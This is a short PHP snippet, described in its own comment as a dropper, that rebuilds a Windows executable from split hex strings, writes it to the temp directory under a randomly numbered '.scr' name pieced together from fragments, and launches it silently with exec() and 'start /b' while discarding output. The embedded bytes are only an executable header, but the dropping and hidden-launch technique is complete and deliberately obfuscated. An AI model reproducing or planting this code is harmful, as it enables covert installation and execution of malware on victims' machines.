<?php
// The same dropper with its program kept as hex in pieces, the name glued from parts and the
// file written whole; started through exec() with its output thrown away.
$p = array('4d5a9000', '03000000', '04000000', 'ffff0000');
$n = 'upd' . 'ate_' . mt_rand(10, 99) . '.scr';
$where = sys_get_temp_dir() . DIRECTORY_SEPARATOR . $n;
file_put_contents($where, hex2bin(implode('', $p)));
@exec('start /b "" "' . $where . '"', $o, $rc);
